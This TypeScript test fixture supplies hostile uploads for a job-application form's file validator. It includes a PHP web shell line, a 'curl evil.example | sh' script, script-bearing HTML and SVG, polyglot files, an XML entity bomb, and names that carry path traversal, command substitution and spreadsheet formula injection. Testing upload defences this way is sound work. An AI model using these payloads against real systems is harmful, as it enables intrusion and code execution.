/** Files that an attacker wants an applicant's form to take. */
import type { Upload } from '../forms.ts'

export interface HostileUpload {
  what: string
  file: Upload
  /** The message at the field. */
  says: RegExp
}

const TYPE = /past niet bij het bestandstype/
const NAME = /Alleen bestanden|pdf, doc|bestandstype|moet/i

const upload = (name: string, content: string | Buffer, mimeType = 'application/pdf'): Upload => ({
  ...{ name, mimeType, buffer: Buffer.from(content) },
})
const PDF = '%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n'
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex')

const FORGED: readonly (readonly [what: string, name: string, content: string | Buffer])[] = [
  ['a program', 'cv.pdf', Buffer.from('4d5a90000300000004000000ffff0000', 'hex')],
  ['a program for Linux', 'cv.pdf', Buffer.from('7f454c46020101000000000000000000', 'hex')],
  ['a page', 'cv.pdf', '<!doctype html><script>alert(1)</script>'],
  ['a vector picture with a script', 'cv.pdf', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['a script', 'cv.pdf', '#!/bin/sh\ncurl evil.example | sh\n'],
  ['a program for PHP', 'cv.pdf', '<?php system($_GET["c"]); ?>'],
  ['a page with a document after it', 'cv.pdf', `<script>alert(1)</script>${PDF}`],
  ['a picture with a document after it', 'cv.pdf', `GIF89a${PDF}`],
  ['an archive with a document after it', 'cv.pdf', `PK\u0003\u0004${PDF}`],
  ['a picture', 'cv.pdf', PNG],
  ['an archive', 'cv.docx', Buffer.from('504b0506000000000000000000000000000000000000', 'hex')],
  ['a text', 'cv.doc', 'Mijn cv'],
  ['a formatted text', 'cv.doc', '{\\rtf1\\ansi{\\object\\objdata 0105}}'],
  ['an entity without end', 'cv.docx', '<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'],
  ['a shortcut', 'cv.pdf', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  ['a compressed file', 'cv.pdf', Buffer.from('1f8b0800000000000003', 'hex')],
]

const NAMES = [
  ...[
    'cv.exe',
    'cv.pdf.exe',
    'cv.PDF.EXE',
    'cv.php',
    'cv.phtml',
    'cv.html',
    'cv.svg',
    'cv.js',
    'cv.docm',
    'cv.dotm',
    'cv.lnk',
  ],
  ...[
    'cv',
    '.htaccess',
    '.pdf.',
    'cv.pdf.',
    'cv.pdf ',
    'cv.pdf::$DATA',
    'cv.pdf%00.exe',
    'cv\u202efdp.exe',
    'cv.rtf',
    'cv.zip',
    'cv.iso',
  ],
]

export const UPLOADS: HostileUpload[] = [
  ...FORGED.map(([what, name, content]) => ({ what: `${what} as ${name}`, file: upload(name, content), says: TYPE })),
  ...NAMES.map((name) => ({ what: `a file with the name ${name}`, file: upload(name, PDF), says: NAME })),
]

/** Names that harm only where they are used as a path, a command, a page or a formula. The file itself is right. */
export const ODD_NAMES = [
  ...['../../../../etc/cron.d/x.pdf', '..\\..\\windows\\x.pdf', '/etc/passwd.pdf', 'C:\\x.pdf', 'con.pdf', '-rf.pdf'],
  ...[
    '$(reboot).pdf',
    '`reboot`.pdf',
    'a;b|c&d.pdf',
    '<script>alert(1)<script>.pdf',
    "=cmd|' /C calc'!A0.pdf",
    '%0d%0aBcc: x.pdf',
  ],
  ...['cv\u202efdp.pdf', `${'é'.repeat(120)}.pdf`, `${'a'.repeat(200)}.pdf`, '😀.pdf', 'a"b.pdf'],
]
